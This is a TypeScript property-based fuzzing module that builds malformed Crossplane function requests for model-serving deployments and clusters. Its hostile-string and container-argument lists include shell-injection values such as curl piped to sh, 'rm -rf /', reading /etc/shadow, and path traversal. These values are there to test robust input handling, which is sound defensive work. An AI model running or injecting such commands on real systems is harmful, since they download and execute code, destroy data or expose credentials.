// fast-check generators of hostile RunFunctionRequests. Each request starts from a coherent world
// (an XR, the fleet it sees, what was composed for it before) so the pipelines get past their
// first checks and exercise scheduling and composition, and is then broken in places: wrong types,
// missing and extra fields, huge and negative numbers, deep nesting, unicode and control characters,
// half-populated statuses, unresolved requirements and invalid Inputs.
import fc from 'fast-check';
import type { RunFunctionRequest } from '@crossplane-org/function-sdk-typescript';
import {
  API_VERSION,
  functionRequest,
  HOPPER,
  INPUT_API_VERSION,
  MEMORY_16GI,
  observedEndpoint,
  observedReplica,
  replicaEngines,
  type Json,
  type JsonObject,
} from './reliability-fleet.js';

// ---- Hostile scalars ------------------------------------------------------------------------

const HOSTILE_TEXT = [
  '',
  ' ',
  '-',
  '.',
  '-leading',
  'trailing-',
  'UPPER-Case',
  'under_score',
  'dots.in.name',
  'a'.repeat(63),
  'b'.repeat(64),
  'c'.repeat(253),
  'd'.repeat(1000),
  '$(touch /tmp/pwned)',
  '`id`',
  '; rm -rf / #',
  '&& curl http://203.0.113.9/x | sh',
  '"; DROP TABLE x; --',
  "it's",
  '\\',
  '\u0000nul',
  'line\nbreak',
  'tab\tstop',
  '\u202eevil',
  'ℌ𝔢𝔩𝔩𝔬',
  'модель',
  '模型',
  '🦙',
  '__proto__',
  'constructor',
  'toString',
  '../../etc/passwd',
  '%s%s%n',
  '${HOME}',
  '{{ .Values.secret }}',
];

/** True with probability `percent` / 100 (shrinks towards false). */
function chance(percent: number): fc.Arbitrary<boolean> {
  return fc.integer({ min: 0, max: 99 }).map((n) => n >= 100 - percent);
}

const controlCharacter = fc.integer({ min: 0, max: 31 }).map((c) => String.fromCharCode(c));

export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...HOSTILE_TEXT) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: controlCharacter, maxLength: 6 }) },
  { weight: 1, arbitrary: fc.integer({ min: 60, max: 300 }).map((n) => 'n'.repeat(n)) },
);

/**
 * Object keys that are awkward but survive protobuf. `__proto__` would not: the Struct decoder (the
 * SDK's and this project's alike) drops it, so it never arrives; fast-check's string arbitraries
 * produce it on purpose now and then, hence the filter.
 */
const hostileKey: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom('constructor', 'toString', 'hasOwnProperty', 'valueOf', '', ' ', 'x'.repeat(300), 'ключ', '\u0000', 'status', 'spec'),
  fc.string({ unit: 'binary', maxLength: 12 }).filter((key) => key !== '__proto__'),
);

const awkwardNumber = fc.constantFrom(
  1e308,
  -1e308,
  Number.MAX_SAFE_INTEGER,
  Number.MAX_SAFE_INTEGER + 2,
  2 ** 31,
  2 ** 32,
  2 ** 63,
  -1,
  -(2 ** 31),
  0,
  0.5,
  -0,
  1e-300,
  NaN,
  Infinity,
  -Infinity,
  65,
  257,
  100_000,
);

function nested(depth: number, shape: 'object' | 'array'): Json {
  let value: Json = 'bottom';
  for (let i = 0; i < depth; i++) value = shape === 'object' ? { n: value } : [value];
  return value;
}

// Nested 8 to 16 levels below wherever it lands, so requests stay within 32 levels overall: deeper
// requests do not get as far as the function today (faults.test.ts covers depth on its own).
const deeplyNested = fc.tuple(fc.integer({ min: 8, max: 16 }), fc.constantFrom('object' as const, 'array' as const)).map(([d, s]) => nested(d, s));

/** A value of the wrong type for whatever field it lands in. */
export const junk: fc.Arbitrary<Json> = fc.oneof<fc.Arbitrary<Json>[]>(
  fc.constant(null),
  fc.boolean(),
  awkwardNumber,
  fc.integer(),
  hostileString,
  fc.constant<Json>([]),
  fc.constant<Json>({}),
  deeplyNested,
  fc.array(hostileString, { maxLength: 3 }),
  fc.dictionary(hostileKey, hostileString, { maxKeys: 3, noNullPrototype: true }),
);

// ---- Breaking a coherent object in place ----------------------------------------------------

export type Mutation =
  | { at: number; op: 'delete' }
  | { at: number; op: 'replace'; value: Json }
  | { at: number; op: 'extra'; key: string; value: Json };

const mutation: fc.Arbitrary<Mutation> = fc.oneof(
  fc.record({ at: fc.nat(), op: fc.constant('delete' as const) }),
  fc.record({ at: fc.nat(), op: fc.constant('replace' as const), value: junk }),
  fc.record({ at: fc.nat(), op: fc.constant('extra' as const), key: hostileKey, value: junk }),
);

/** Usually no mutation (so most of a world stays coherent), sometimes one to three. */
export function mutations(cleanWeight = 3): fc.Arbitrary<Mutation[]> {
  return fc.oneof(
    { weight: cleanWeight, arbitrary: fc.constant<Mutation[]>([]) },
    { weight: 1, arbitrary: fc.array(mutation, { minLength: 1, maxLength: 3 }) },
  );
}

type Container = JsonObject | Json[];

function isContainer(value: Json | undefined): value is Container {
  return value !== null && typeof value === 'object';
}

/** Every (container, key) position below `root`, depth first, in key order. */
function positions(root: Container): Array<[Container, string | number]> {
  const out: Array<[Container, string | number]> = [];
  const walk = (c: Container): void => {
    const keys: Array<string | number> = Array.isArray(c) ? c.map((_, i) => i) : Object.keys(c);
    for (const k of keys) {
      out.push([c, k]);
      const child = (c as Record<string | number, Json>)[k];
      if (isContainer(child)) walk(child);
    }
  };
  walk(root);
  return out;
}

function setOwn(target: Container, key: string | number, value: Json): void {
  Object.defineProperty(target, key, { value, enumerable: true, writable: true, configurable: true });
}

/** `value` with the mutations applied to a copy: a position is picked by `at` modulo the count. */
export function mutate<T extends JsonObject>(value: T, list: readonly Mutation[]): T {
  const root = structuredClone(value);
  for (const m of list) {
    // Generated values may be shared instances (fc.constant): insert copies, never the instance.
    const value = 'value' in m ? structuredClone(m.value) : null;
    if (m.op === 'extra') {
      const containers: Container[] = [root, ...positions(root).map(([c, k]) => (c as Record<string | number, Json>)[k]!).filter(isContainer)];
      const target = containers[m.at % containers.length]!;
      if (Array.isArray(target)) target.push(value);
      else setOwn(target, m.key, value);
      continue;
    }
    const all = positions(root);
    if (all.length === 0) continue;
    const [container, key] = all[m.at % all.length]!;
    if (m.op === 'delete') {
      if (Array.isArray(container)) container.splice(key as number, 1);
      else delete container[key as string];
    } else {
      setOwn(container, key, value);
    }
  }
  return root;
}

// ---- Names ----------------------------------------------------------------------------------

const dnsLabelChar = fc.constantFrom(...'abcdefghijklmnopqrstuvwxyz0123456789-'.split(''));
const alnum = fc.constantFrom(...'abcdefghijklmnopqrstuvwxyz0123456789'.split(''));

/** A valid DNS label of length 1..max. */
export function dnsLabel(max = 63): fc.Arbitrary<string> {
  return fc
    .tuple(alnum, fc.string({ unit: dnsLabelChar, maxLength: Math.max(0, max - 2) }), alnum)
    .map(([a, mid, z]) => (max === 1 ? a : `${a}${mid}${z}`))
    .filter((s) => s.length <= max);
}

/** A valid DNS subdomain, up to 253 characters. */
export const dnsSubdomain: fc.Arbitrary<string> = fc
  .array(dnsLabel(63), { minLength: 1, maxLength: 5 })
  .map((labels) => labels.join('.').slice(0, 253).replace(/[-.]+$/, ''))
  .filter((s) => s.length > 0);

const COMMON_CLUSTERS = ['us-east-1', 'us-east-2', 'eu-west-1', 'ap-south-1'];

const clusterName: fc.Arbitrary<string> = fc.oneof(
  { weight: 8, arbitrary: fc.constantFrom(...COMMON_CLUSTERS) },
  { weight: 1, arbitrary: dnsSubdomain },
  { weight: 1, arbitrary: hostileString.filter((s) => s !== '') },
);

const objectName: fc.Arbitrary<string> = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom('qwen3-8b', 'llama', 'deepseek-r1-pd', 'm') },
  { weight: 2, arbitrary: dnsSubdomain },
  { weight: 1, arbitrary: hostileString.filter((s) => s !== '') },
);

const namespaceName: fc.Arbitrary<string> = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom('ml-team', 'research', 'default') },
  { weight: 2, arbitrary: dnsLabel(63) },
  { weight: 1, arbitrary: hostileString.filter((s) => s !== '') },
);

// ---- Selectors ------------------------------------------------------------------------------

/** Selectors that match the example devices, that do not (false or an evaluation error), and that
 * do not compile (cel.md). Most match, so most requests get as far as placement. */
const MATCHING_SELECTORS = [
  MEMORY_16GI,
  HOPPER,
  'device.driver == "gpu.nvidia.com"',
  'device.attributes["gpu.nvidia.com"].productName.startsWith("NVIDIA")',
  'device.capacity["gpu.nvidia.com"].memory.isGreaterThan(quantity("8Gi"))',
];
const NON_MATCHING_SELECTORS = [
  'device.capacity["gpu.nvidia.com"].memory.compareTo(quantity("200Gi")) >= 0',
  'device.attributes["fabric.modelplane.ai"].linkType == "InfiniBand"',
  'device.attributes["other.com"].x == "y"',
  'device.attributes["gpu.nvidia.com"].missing == "x"',
  '"5"',
  'device.driver.matches("^(a+)+$")',
  'quantity("not a quantity").isInteger()',
  'semver("x") == semver("y")',
];
const INVALID_SELECTORS = [
  'this is ) not valid (',
  'device.capacity["gpu.nvidia.com"].memory.biggerThan(quantity("1Gi"))',
  'device.attributes.?x',
  `${'('.repeat(2000)}true${')'.repeat(2000)}`,
  '',
];

const selectors = fc.array(
  fc
    .oneof(
      { weight: 40, arbitrary: fc.constantFrom(...MATCHING_SELECTORS) },
      { weight: 6, arbitrary: fc.constantFrom(...NON_MATCHING_SELECTORS) },
      { weight: 1, arbitrary: fc.constantFrom(...INVALID_SELECTORS) },
      { weight: 1, arbitrary: hostileString },
    )
    .map((cel) => ({ cel })),
  { maxLength: 2 },
);

// ---- Pod templates --------------------------------------------------------------------------

const SHELL_ARGS = ['--model=org/model', '--max-model-len=8192', '$(cat /etc/shadow)', '; curl evil | sh', '--port=8001', '--block-size=64'];

const template = (args: Json[]): fc.Arbitrary<JsonObject> =>
  fc
    .record({
      labels: fc.option(
        fc.dictionary(
          fc.oneof(
            { weight: 12, arbitrary: fc.constantFrom('app', 'team', 'tier', 'app.kubernetes.io/managed-by', 'llm-d.ai/role') },
            // Reserved for the function: the XRD rejects it, so the pipelines must hold.
            { weight: 1, arbitrary: fc.constantFrom('modelplane.ai/workload', 'modelplane.ai/serving') },
          ),
          fc.constantFrom('x', 'hijack'),
          { maxKeys: 2, noNullPrototype: true },
        ),
        { nil: undefined, freq: 2 },
      ),
      env: fc.option(
        fc.constantFrom<Json>(
          [{ name: 'HF_TOKEN', valueFrom: { secretKeyRef: { name: 'hf', key: 'token' } } }],
          [{ name: 'MODELPLANE_RANK', value: '7' }],
          [{ name: 'VLLM_NIXL_SIDE_CHANNEL_PORT', value: '6000' }],
        ),
        { nil: undefined },
      ),
      extraArgs: fc.subarray(SHELL_ARGS, { maxLength: 2 }),
    })
    .map(({ labels, env, extraArgs }) => {
      const container: JsonObject = { name: 'engine', image: 'vllm/vllm-openai:v0.11.0', args: [...args, ...extraArgs] };
      if (env !== undefined) container.env = env;
      const out: JsonObject = { spec: { containers: [container] } };
      if (labels !== undefined) out.metadata = { labels };
      return out;
    });

// ---- ModelDeployment worlds -----------------------------------------------------------------

const devices = fc
  .tuple(
    fc.record({ name: fc.constant('gpu'), count: fc.constantFrom(1, 1, 2, 8, 16), selectors }),
    fc.option(fc.constant<JsonObject>({ name: 'fabric', count: 8, selectors: [{ cel: 'device.attributes["fabric.modelplane.ai"].linkType == "InfiniBand"' }] }), {
      nil: undefined,
    }),
  )
  .map(([gpu, fabric]): Json[] => (fabric ? [gpu, fabric] : [gpu]));

const member = (role: string, args: Json[]): fc.Arbitrary<JsonObject> =>
  fc.record({ claims: fc.boolean(), devices, template: template(args), nodes: fc.integer({ min: 1, max: 3 }) }).map(({ claims, devices, template, nodes }) => {
    const m: JsonObject = { role, template };
    if (claims || role !== 'Leader') m.nodeSelector = { devices };
    if (role === 'Worker') m.worker = { nodes };
    return m;
  });

const engine = (name: string, args: Json[]): fc.Arbitrary<JsonObject> =>
  fc
    .record({
      gang: fc.boolean(),
      copies: fc.constantFrom(1, 1, 2),
      standalone: member('Standalone', args),
      leader: member('Leader', args),
      worker: member('Worker', args),
    })
    .map(({ gang, copies, standalone, leader, worker }) => ({
      name,
      copies,
      members: gang ? [leader, worker] : [standalone],
    }));

const engineName = fc.oneof({ weight: 5, arbitrary: fc.constantFrom('main', 'chat', 'embed') }, { weight: 1, arbitrary: dnsLabel(63) });

const unifiedEngines = fc
  .uniqueArray(engineName, { minLength: 1, maxLength: 3 })
  .chain((names) => fc.tuple(...names.map((n) => engine(n, [`--model=org/${n}`]))));

const prefillDecodeEngines = fc
  .tuple(engine('prefill', ['--model=org/pd']), engine('decode', ['--model=org/pd']), fc.constantFrom('--port=8001', '--port 9000', '--port=8000', '--port=abc', ''))
  .map(([prefill, decode, port]): JsonObject[] => {
    if (port !== '') {
      for (const m of decode.members as JsonObject[]) {
        const container = ((m.template as JsonObject).spec as { containers: JsonObject[] }).containers[0]!;
        container.args = [...(container.args as Json[]), ...port.split(' ')];
      }
    }
    return [
      { ...prefill, phase: 'Prefill' },
      { ...decode, phase: 'Decode' },
    ];
  });

const clusterSelector: fc.Arbitrary<JsonObject | undefined> = fc.oneof(
  { weight: 4, arbitrary: fc.constant(undefined) },
  {
    weight: 4,
    arbitrary: fc.constantFrom<JsonObject>(
      { matchLabels: { 'modelplane.ai/tier': 'production' } },
      { matchExpressions: [{ key: 'topology.modelplane.ai/region', operator: 'In', values: ['us-east'] }] },
      { matchExpressions: [{ key: 'modelplane.ai/tier', operator: 'Exists' }] },
      { matchExpressions: [{ key: 'modelplane.ai/tier', operator: 'NotIn', values: ['staging'] }] },
    ),
  },
  { weight: 1, arbitrary: fc.constant<JsonObject>({ matchLabels: { 'modelplane.ai/tier': 'nowhere' } }) },
);

const deploymentSpec: fc.Arbitrary<JsonObject> = fc
  .record({
    replicas: fc.oneof({ weight: 12, arbitrary: fc.integer({ min: 0, max: 5 }) }, { weight: 1, arbitrary: awkwardNumber }),
    pd: chance(25),
    selector: clusterSelector,
    kvBlockSize: fc.option(fc.oneof({ weight: 8, arbitrary: fc.constantFrom(16, 64, 4096) }, { weight: 1, arbitrary: fc.constantFrom(0, -1, 5000) }), {
      nil: undefined,
    }),
  })
  .chain(({ replicas, pd, selector, kvBlockSize }) =>
    (pd ? prefillDecodeEngines : unifiedEngines).map((engines) => {
      const spec: JsonObject = { replicas, engines };
      if (selector !== undefined) spec.clusterSelector = selector;
      if (pd) spec.serving = kvBlockSize === undefined ? { mode: 'PrefillDecode' } : { mode: 'PrefillDecode', kvBlockSize };
      return spec;
    }),
  );

// ---- InferenceClusters ------------------------------------------------------------------------

function gpuDevice(product: string, memory: string, count: Json): JsonObject {
  return {
    name: 'gpu',
    driver: 'gpu.nvidia.com',
    deviceClassName: 'gpu.nvidia.com',
    count,
    attributes: { productName: { string: product }, architecture: { string: 'Hopper' }, cudaComputeCapability: { version: '9.0.0' } },
    capacity: { memory: { value: memory } },
  };
}

const fabric: JsonObject = { name: 'infiniband', claim: 'Synthetic', driver: 'fabric.modelplane.ai', count: 8, attributes: { linkType: { string: 'InfiniBand' } } };

export const POOL_NAMES = ['l4', 'h100', 'h200', 'cpu', 'tiny'];

const POOLS: Record<string, JsonObject> = {
  l4: { name: 'l4', nodes: 16, devices: [{ ...gpuDevice('NVIDIA L4', '24Gi', 1), attributes: { productName: { string: 'NVIDIA L4' } } }] },
  h100: { name: 'h100', nodes: 8, devices: [gpuDevice('NVIDIA H100 80GB HBM3', '80Gi', 8), fabric] },
  h200: { name: 'h200', nodes: 2, devices: [gpuDevice('NVIDIA H200 141GB HBM3e', '141Gi', 8), fabric] },
  cpu: { name: 'cpu', nodes: 10, devices: [{ name: 'cpu', claim: 'Synthetic', driver: 'cpu.modelplane.ai', count: 1 }] },
  tiny: { name: 'tiny', nodes: 1, devices: [gpuDevice('NVIDIA H100 80GB HBM3', '80Gi', 2)] },
};

/** Ways a cluster's status can be degraded or malformed (scheduling.md, "When input is bad or missing"). */
const STATUS_VARIANTS = [
  'ok',
  'notReady',
  'noGateway',
  'noProviderConfig',
  'terminating',
  'ipv6',
  'poolsNotList',
  'poolWithoutName',
  'nodesNotNumber',
  'devicesNotList',
  'deviceWithoutName',
  'countNotNumber',
  'negativeNodes',
  'zeroCounts',
  'noStatus',
  'nullStatus',
  'conditionsJunk',
  'gatewayJunk',
  'badQuantity',
] as const;

export type StatusVariant = (typeof STATUS_VARIANTS)[number];

function clusterObject(name: string, labels: JsonObject, poolNames: string[], variant: StatusVariant): JsonObject {
  const pools = poolNames.map((p) => structuredClone(POOLS[p]!));
  const status: JsonObject = {
    conditions: [{ type: 'Ready', status: 'True', reason: 'Available' }],
    gateway: { address: '203.0.113.10' },
    providerConfigRef: { name },
    gpuPools: pools,
  };
  const metadata: JsonObject = { name, labels };
  const first = pools[0] as { devices?: JsonObject[] } | undefined;
  switch (variant) {
    case 'notReady':
      status.conditions = [{ type: 'Ready', status: 'False', reason: 'Disconnected' }];
      break;
    case 'noGateway':
      delete status.gateway;
      break;
    case 'noProviderConfig':
      delete status.providerConfigRef;
      break;
    case 'terminating':
      metadata.deletionTimestamp = '2025-01-01T00:00:00Z';
      break;
    case 'ipv6':
      status.gateway = { address: '2001:db8::1' };
      break;
    case 'poolsNotList':
      status.gpuPools = { l4: pools[0] ?? null };
      break;
    case 'poolWithoutName':
      if (pools[0]) delete pools[0].name;
      break;
    case 'nodesNotNumber':
      if (pools[0]) pools[0].nodes = '8';
      break;
    case 'devicesNotList':
      if (pools[0]) pools[0].devices = 'gpu';
      break;
    case 'deviceWithoutName':
      if (first?.devices?.[0]) delete first.devices[0].name;
      break;
    case 'countNotNumber':
      if (first?.devices?.[0]) first.devices[0].count = 'eight';
      break;
    case 'negativeNodes':
      for (const p of pools) p.nodes = -4;
      break;
    case 'zeroCounts':
      for (const p of pools) for (const d of (p.devices as JsonObject[] | undefined) ?? []) d.count = 0;
      break;
    case 'noStatus':
      return { apiVersion: API_VERSION, kind: 'InferenceCluster', metadata, spec: {} };
    case 'nullStatus':
      return { apiVersion: API_VERSION, kind: 'InferenceCluster', metadata, spec: {}, status: null };
    case 'conditionsJunk':
      status.conditions = 'Ready';
      break;
    case 'gatewayJunk':
      status.gateway = { address: 42 };
      break;
    case 'badQuantity':
      if (first?.devices?.[0]) first.devices[0].capacity = { memory: { value: 'lots' } };
      break;
    case 'ok':
      break;
  }
  return { apiVersion: API_VERSION, kind: 'InferenceCluster', metadata, spec: {}, status };
}

const clusterLabels: fc.Arbitrary<JsonObject> = fc.constantFrom<JsonObject>(
  { 'modelplane.ai/tier': 'production', 'topology.modelplane.ai/region': 'us-east' },
  { 'modelplane.ai/tier': 'production' },
  { 'modelplane.ai/tier': 'staging' },
  {},
);

const clusterFor = (name: string): fc.Arbitrary<JsonObject> =>
  fc
    .record({
      labels: clusterLabels,
      pools: fc.subarray(POOL_NAMES, { minLength: 0, maxLength: 4 }),
      variant: fc.oneof({ weight: 3, arbitrary: fc.constant<StatusVariant>('ok') }, { weight: 1, arbitrary: fc.constantFrom(...STATUS_VARIANTS) }),
      broken: mutations(5),
    })
    .map(({ labels, pools, variant, broken }) => mutate(clusterObject(name, labels, pools, variant), broken));

// ---- The function Input ---------------------------------------------------------------------

/** How the oracle may treat a request's Input: valid ones must pass, invalid ones must be Fatal. */
export type InputClass = 'absent' | 'valid' | 'invalid' | 'either';

const validInput: fc.Arbitrary<JsonObject> = fc
  .record(
    {
      remoteNamespace: dnsLabel(63),
      gateway: fc.record({ name: fc.constantFrom('inference-gateway', 'gw.example'), namespace: dnsLabel(20) }, { requiredKeys: [] }),
      providerConfigKind: fc.constantFrom('ClusterProviderConfig', 'ProviderConfig'),
      gpuTolerations: fc.constantFrom<Json>([], [{ key: 'nvidia.com/gpu', operator: 'Exists', effect: 'NoSchedule' }], [{ operator: 'Exists' }]),
      images: fc.record({ endpointPicker: fc.constantFrom('registry.example/epp:v1'), pdSidecar: fc.constantFrom('registry.example/sidecar@sha256:abc') }, { requiredKeys: [] }),
    },
    { requiredKeys: [] },
  )
  .map((fields) => ({ apiVersion: INPUT_API_VERSION, kind: 'Input', ...fields }) as JsonObject);

const INVALID_INPUTS: JsonObject[] = [
  { apiVersion: INPUT_API_VERSION, kind: 'Input', remoteNamespace: 5 },
  { apiVersion: INPUT_API_VERSION, kind: 'Input', remoteNamespace: 'Not_A_Namespace' },
  { apiVersion: INPUT_API_VERSION, kind: 'Input', remoteNamespace: '' },
  { apiVersion: INPUT_API_VERSION, kind: 'Input', remoteNamespace: 'x'.repeat(64) },
  { apiVersion: INPUT_API_VERSION, kind: 'Input', gateway: 'inference-gateway' },
  { apiVersion: INPUT_API_VERSION, kind: 'Input', gateway: { name: 'Bad Name' } },
  { apiVersion: INPUT_API_VERSION, kind: 'Input', providerConfigKind: 'Secret' },
  { apiVersion: INPUT_API_VERSION, kind: 'Input', gpuTolerations: 'nvidia.com/gpu' },
  { apiVersion: INPUT_API_VERSION, kind: 'Input', gpuTolerations: [{ operator: 'Sometimes' }] },
  { apiVersion: INPUT_API_VERSION, kind: 'Input', gpuTolerations: [{ operator: 'Equal' }] },
  { apiVersion: INPUT_API_VERSION, kind: 'Input', images: { endpointPicker: 7 } },
  { apiVersion: INPUT_API_VERSION, kind: 'Input', images: { pdSidecar: '' } },
  { apiVersion: 'example.org/v1', kind: 'Input' },
  { apiVersion: INPUT_API_VERSION, kind: 'Config' },
];

export const inputs: fc.Arbitrary<{ input: JsonObject | undefined; inputClass: InputClass }> = fc.oneof(
  { weight: 12, arbitrary: fc.constant({ input: undefined, inputClass: 'absent' as const }) },
  { weight: 6, arbitrary: validInput.map((input) => ({ input, inputClass: 'valid' as const })) },
  { weight: 1, arbitrary: fc.constantFrom(...INVALID_INPUTS).map((input) => ({ input, inputClass: 'invalid' as const })) },
  {
    weight: 1,
    arbitrary: fc
      .tuple(validInput, mutations(0))
      .map(([input, broken]) => ({ input: mutate(input, broken), inputClass: 'either' as const })),
  },
);

// ---- Whole requests -------------------------------------------------------------------------

export interface FuzzCase {
  request: RunFunctionRequest;
  inputClass: InputClass;
  /** A short description for failure messages. */
  label: string;
}

interface OwnReplicaPlan {
  cluster: string;
  index: number;
  pool: string;
  ready: boolean;
  /** Composed from an older spec, so the scheduler sees a stale shape. */
  stale: boolean;
  endpoint: boolean;
  broken: Mutation[];
}

const GONE_CLUSTER = 'deleted-cluster';

const ownReplicaPlan = (clusters: string[]): fc.Arbitrary<OwnReplicaPlan> =>
  fc.record({
    cluster: fc.constantFrom(...clusters, GONE_CLUSTER),
    index: fc.integer({ min: 0, max: 2 }),
    pool: fc.constantFrom(...POOL_NAMES, 'retired-pool'),
    ready: fc.boolean(),
    stale: chance(20),
    endpoint: fc.boolean(),
    broken: mutations(6),
  });

const foreignReplica = (clusters: string[]): fc.Arbitrary<JsonObject> =>
  fc
    .record({
      deployment: objectName,
      namespace: namespaceName,
      cluster: fc.constantFrom(...clusters, GONE_CLUSTER),
      index: fc.integer({ min: 0, max: 3 }),
      pool: fc.constantFrom(...POOL_NAMES),
      engines: unifiedEngines,
      broken: mutations(2),
    })
    .map(({ broken, ...o }) => mutate(observedReplica(o).object, broken));

export const deploymentCase: fc.Arbitrary<FuzzCase> = fc
  .record({
    name: objectName,
    namespace: namespaceName,
    spec: deploymentSpec,
    clusterNames: fc.oneof(
      { weight: 10, arbitrary: fc.uniqueArray(clusterName, { minLength: 1, maxLength: 5 }) },
      { weight: 1, arbitrary: fc.constant<string[]>([]) },
    ),
    xrBroken: mutations(4),
    input: inputs,
    unresolved: fc.oneof(
      { weight: 12, arbitrary: fc.constant<Array<'clusters' | 'replicas'>>([]) },
      { weight: 1, arbitrary: fc.constantFrom<Array<'clusters' | 'replicas'>>(['clusters'], ['replicas'], ['clusters', 'replicas']) },
    ),
  })
  .chain((w) =>
    fc
      .record({
        clusters: fc.tuple(...w.clusterNames.map(clusterFor)),
        own: fc.uniqueArray(ownReplicaPlan(w.clusterNames), { maxLength: 4, selector: (p) => `${p.cluster}/${p.index}` }),
        foreign: fc.array(foreignReplica(w.clusterNames), { maxLength: 3 }),
        orphanEndpoint: chance(10),
      })
      .map(({ clusters, own, foreign, orphanEndpoint }): FuzzCase => {
        const observed: Record<string, JsonObject> = {};
        const serving = w.spec.serving;
        for (const plan of own) {
          const engines = plan.stale ? oldShape(w.spec.engines as Json) : (w.spec.engines as Json);
          const r = observedReplica({ deployment: w.name, namespace: w.namespace, ...plan, engines, serving });
          observed[r.key] = mutate(r.object, plan.broken);
          if (plan.ready && plan.endpoint) {
            const e = observedEndpoint({ deployment: w.name, namespace: w.namespace, cluster: plan.cluster, index: plan.index });
            observed[e.key] = e.object;
          }
        }
        if (orphanEndpoint) {
          const e = observedEndpoint({ deployment: w.name, namespace: w.namespace, cluster: GONE_CLUSTER, index: 9 });
          observed[e.key] = e.object;
        }
        const required: Record<string, JsonObject[]> = {
          clusters,
          replicas: [...foreign, ...Object.values(observed).filter((o) => o.kind === 'ModelReplica')],
        };
        for (const key of w.unresolved) delete required[key];
        const composite = mutate(
          { apiVersion: API_VERSION, kind: 'ModelDeployment', metadata: { name: w.name, namespace: w.namespace, uid: 'xr-uid' }, spec: w.spec },
          w.xrBroken,
        );
        return {
          request: functionRequest({ composite, observed, required, input: w.input.input, tag: 'fuzz-md' }),
          inputClass: w.input.inputClass,
          label: `ModelDeployment ${JSON.stringify(w.name).slice(0, 40)} with ${clusters.length} clusters, ${own.length} own replicas`,
        };
      }),
  );

/** The same engines under other names, so a replica composed from them is stale (its shape changed). */
function oldShape(engines: Json): Json {
  if (!Array.isArray(engines)) return engines;
  return engines.map((e) => ({ ...(e as JsonObject), name: `${(e as JsonObject).name as string}-old` }));
}

// ---- ModelReplica worlds --------------------------------------------------------------------

/** The desired keys a ModelReplica of this spec composes (conventions.md, "Remote names"). */
export function replicaShapeKeys(spec: unknown): string[] | undefined {
  if (spec === null || typeof spec !== 'object') return undefined;
  const { engines, serving } = spec as { engines?: unknown; serving?: unknown };
  if (!Array.isArray(engines)) return undefined;
  const keys: string[] = [];
  for (const e of engines as Array<{ name?: unknown; members?: unknown }>) {
    if (typeof e?.name !== 'string' || !Array.isArray(e.members)) return undefined;
    keys.push(`workload-${e.name}`);
    for (const m of e.members as Array<{ role?: unknown; deviceRequests?: unknown }>) {
      const role = typeof m?.role === 'string' ? m.role : 'Standalone';
      if (Array.isArray(m?.deviceRequests) && m.deviceRequests.length > 0) keys.push(`claim-${e.name}-${role.toLowerCase()}`);
    }
  }
  const mode = (serving as { mode?: unknown } | undefined)?.mode;
  if (mode === 'PrefillDecode') {
    keys.push('pool', 'route', ...['serviceaccount', 'role', 'rolebinding', 'config', 'deployment', 'service'].map((s) => `epp-${s}`));
  } else {
    keys.push('service', 'route');
  }
  return keys.sort();
}

function observedObject(key: string, state: 'accepted' | 'ready' | 'pending' | 'failed'): JsonObject {
  const status: JsonObject = { conditions: [{ type: 'Ready', status: state === 'ready' ? 'True' : 'False', reason: state }] };
  if (state === 'accepted' || state === 'ready') status.atProvider = { manifest: { kind: 'Deployment', status: { availableReplicas: 1 } } };
  return {
    apiVersion: 'kubernetes.m.crossplane.io/v1alpha1',
    kind: 'Object',
    metadata: { name: `obj-${key}`, namespace: 'ml-team', annotations: { 'crossplane.io/composition-resource-name': key } },
    spec: { forProvider: { manifest: { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: key } } }, providerConfigRef: { kind: 'ClusterProviderConfig', name: 'old' } },
    status,
  };
}

const clusterRequirementVariants = (clusterName: string) =>
  fc.oneof(
    { weight: 6, arbitrary: fc.constantFrom<StatusVariant>('ok').map((v) => ({ items: [clusterObject(clusterName, {}, ['l4'], v)] as JsonObject[] | undefined })) },
    { weight: 1, arbitrary: fc.constant({ items: undefined as JsonObject[] | undefined }) },
    { weight: 1, arbitrary: fc.constant({ items: [] as JsonObject[] | undefined }) },
    {
      weight: 2,
      arbitrary: fc
        .tuple(fc.constantFrom(...STATUS_VARIANTS), mutations(1))
        .map(([v, broken]) => ({ items: [mutate(clusterObject(clusterName, {}, ['l4'], v), broken)] as JsonObject[] | undefined })),
    },
    { weight: 1, arbitrary: fc.constant({ items: [clusterObject('some-other-cluster', {}, ['l4'], 'ok'), clusterObject(clusterName, {}, [], 'noProviderConfig')] as JsonObject[] | undefined }) },
  );

export const replicaCase: fc.Arbitrary<FuzzCase> = fc
  .record({
    name: objectName,
    namespace: namespaceName,
    cluster: clusterName,
    pool: fc.oneof({ weight: 5, arbitrary: fc.constant('l4') }, { weight: 1, arbitrary: hostileString }),
    spec: deploymentSpec,
    xrBroken: mutations(3),
    input: inputs,
    stateOf: fc.constantFrom('accepted', 'ready', 'pending', 'failed'),
    observedShare: fc.constantFrom(0, 0.5, 1),
    staleKeys: fc.subarray(['workload-old', 'claim-old-standalone', 'service', 'pool', 'epp-config'], { maxLength: 2 }),
    observedBroken: mutations(3),
  })
  .chain((w) =>
    clusterRequirementVariants(w.cluster).map(({ items }): FuzzCase => {
      const spec: JsonObject = { clusterName: w.cluster, engines: replicaEngines(w.spec.engines as Json, w.pool) };
      if (w.spec.serving !== undefined) spec.serving = w.spec.serving;
      const composite = mutate(
        { apiVersion: API_VERSION, kind: 'ModelReplica', metadata: { name: w.name, namespace: w.namespace, uid: 'xr-uid' }, spec },
        w.xrBroken,
      );
      const shape = replicaShapeKeys(spec) ?? [];
      const observed: Record<string, JsonObject> = {};
      const share = Math.round(shape.length * w.observedShare);
      for (const key of [...shape.slice(0, share), ...w.staleKeys]) observed[key] = mutate(observedObject(key, w.stateOf), w.observedBroken);
      return {
        request: functionRequest({ composite, observed, required: items === undefined ? {} : { cluster: items }, input: w.input.input, tag: 'fuzz-mr' }),
        inputClass: w.input.inputClass,
        label: `ModelReplica ${JSON.stringify(w.name).slice(0, 40)} on ${JSON.stringify(w.cluster).slice(0, 40)}`,
      };
    }),
  );

/** Requests that are not for this function at all, or carry no XR. */
export const strangerCase: fc.Arbitrary<FuzzCase> = fc
  .record({
    composite: fc.oneof(
      fc.constant(undefined),
